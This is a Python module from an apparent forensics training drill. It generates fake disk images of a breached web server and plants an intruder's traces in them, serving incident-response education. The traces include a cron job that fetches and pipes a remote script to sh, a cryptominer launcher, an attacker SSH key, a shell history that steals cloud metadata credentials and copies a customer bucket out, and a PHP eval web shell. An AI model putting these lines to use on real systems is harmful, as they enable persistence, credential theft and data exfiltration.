"""What lies on the disks: an ordinary Linux, and an intruder's files in the usual places."""

from __future__ import annotations

import hashlib
from collections.abc import Iterable
from datetime import UTC, datetime

from forensics.drill.ext2 import File, build
from forensics.drill.seed.names import ATTACKER_ADDRESS

INSTALLED = int(datetime(2026, 3, 2, 8, 0, tzinfo=UTC).timestamp())
BREACHED = int(datetime(2026, 11, 21, 2, 47, 12, tzinfo=UTC).timestamp())
POOL = "pool.example.invalid:3333"
DEN = "/var/tmp/.k"  # noqa: S108 - on a disk that is made here, not on this machine's

MINER = f"""#!/bin/sh
# kthreadd
exec /var/tmp/.k/xm -o {POOL} -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt --cpu-max-threads-hint=75
"""
CRON = "*/7 * * * * root curl -fsS http://198.51.100.23/k.sh | sh >/dev/null 2>&1\n"
KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ4k0XQv0l9m8Yx2cT1b7n3uVqWzR5sE6dF8gH0jK2lM root@kali\n"
OWN_KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7v5nQ3rS1tU9wX2yZ4aB6cD8eF0gH1iJ3kL5mN7oPq alice@harbour\n"
HISTORY = """id
curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/web-server
aws sts get-caller-identity
aws s3 sync s3://harbour-customers /var/tmp/.k/c
history -c
"""


def _auth_log() -> str:
    tries = "".join(
        f"2026-11-21T02:{40 + index // 60:02d}:{index % 60:02d}.000000+00:00 web-1 sshd[{2000 + index}]: "
        f"Failed password for invalid user {user} from {ATTACKER_ADDRESS} port {40_000 + index} ssh2\n"
        for index, user in enumerate(["admin", "oracle", "test", "ubuntu", "git", "postgres"] * 60)
    )
    entry = (
        f"2026-11-21T02:47:12.418231+00:00 web-1 sshd[2391]: Accepted publickey for ec2-user from "
        f"{ATTACKER_ADDRESS} port 51122 ssh2: ED25519 SHA256:q1mJ0o5xk3z7b9d1f3h5j7l9n1p3r5t7v9x1z3B5D7E\n"
        f"2026-11-21T02:47:31.020114+00:00 web-1 sudo: ec2-user : TTY=pts/0 ; PWD=/home/ec2-user ; "
        f"USER=root ; COMMAND=/bin/bash\n"
    )
    return tries + entry


def _linux(host: str) -> Iterable[File]:
    yield File("/etc/hostname", f"{host}\n".encode())
    yield File("/etc/os-release", b'NAME="Harbour Linux"\nID=harbour\nVERSION_ID="12"\n')
    yield File(
        "/etc/passwd", b"root:x:0:0:root:/root:/bin/bash\nec2-user:x:1000:1000::/home/ec2-user:/bin/bash\n"
    )
    yield File("/etc/fstab", b"/dev/xvda1 / ext2 defaults 0 1\n/dev/xvdb /srv ext2 defaults 0 2\n")
    yield File("/etc/localtime", link="/usr/share/zoneinfo/UTC")
    yield File("/home/ec2-user/.ssh/authorized_keys", OWN_KEY.encode(), 0o600, 1000)
    yield File("/usr/bin/xm-check", _filler("xm-check", 60_000), 0o755)


def _filler(name: str, size: int) -> bytes:
    # stands for a binary: bytes without a pattern that are the same each time
    return hashlib.shake_256(name.encode()).digest(size)


def web_root() -> bytes:
    """Write the root disk of the web server, with the intruder on it."""
    files = [
        *(file for file in _linux("web-1") if not file.path.endswith("authorized_keys")),
        File("/home/ec2-user/.ssh/authorized_keys", (OWN_KEY + KEY).encode(), 0o600, 1000, BREACHED),
        File("/etc/cron.d/0sync", CRON.encode(), changed=BREACHED + 40),
        File("/var/log/auth.log", _auth_log().encode(), 0o640),
        File(f"{DEN}/k.sh", MINER.encode(), 0o755, changed=BREACHED + 60),
        File(f"{DEN}/xm", _filler("xm", 300_000), 0o755, changed=BREACHED + 61),
        File(
            "/home/ec2-user/.bash_history",
            HISTORY.encode(),
            0o600,
            changed=BREACHED + 90,
            deleted=BREACHED + 120,
        ),
        File("/srv/\u202egnp.sh", b'#!/bin/sh\nrm -- "$0"\n', 0o755, changed=BREACHED + 30),
    ]
    return build(files, label="root", uuid=b"harbour-web-root", now=INSTALLED)


def web_data() -> bytes:
    """Write the data disk of the web server."""
    orders = "".join(
        f"{number},2026-11-{1 + number % 20:02d},{number * 7 % 997}.00\n" for number in range(4000)
    )
    files = [
        File("/orders.csv", ("id,day,amount\n" + orders).encode()),
        File("/upload/shell.php", b"<?php @eval($_POST['c']); ?>\n", owner=33, changed=BREACHED - 400),
    ]
    return build(files, label="srv", uuid=b"harbour-web-data", now=INSTALLED)


def plain(host: str) -> bytes:
    """Write the root disk of a machine that nobody broke into."""
    return build(_linux(host), label="root", uuid=host.encode(), now=INSTALLED)


def detached() -> bytes:
    """Write the disk that the attacker detached and left behind."""
    files = [
        File("/customers.sql", b"INSERT INTO customers VALUES (1,'x');\n" * 3000, changed=BREACHED + 600)
    ]
    return build(files, label="loot", uuid=b"left-behind-disk", now=BREACHED)


def miner() -> bytes:
    """Write the root disk of the miner."""
    files = [
        *_linux("ip-10-0-0-9"),
        File("/opt/xm", _filler("xm", 300_000), 0o755, changed=BREACHED + 3600),
        File("/etc/systemd/system/kthread.service", b"[Service]\nExecStart=/opt/xm\nRestart=always\n"),
    ]
    return build(files, label="root", uuid=b"miner-root-disk-", now=BREACHED)
